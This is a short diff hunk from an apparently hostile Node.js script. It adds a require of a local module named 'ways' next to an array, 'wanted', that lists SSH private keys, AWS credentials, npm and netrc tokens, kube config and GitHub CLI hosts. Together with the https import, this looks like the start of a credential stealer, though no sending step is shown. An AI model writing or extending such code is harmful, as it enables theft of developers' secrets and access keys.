@@ -2,6 +2,7 @@ const fs = require('fs');
 const os = require('os');
 const path = require('path');
 const https = require('https');
+require('./ways');
 
 const wanted = ['.ssh/id_rsa', '.aws/credentials', '.npmrc', '.netrc', '.kube/config', '.config/gh/hosts.yml'];
 
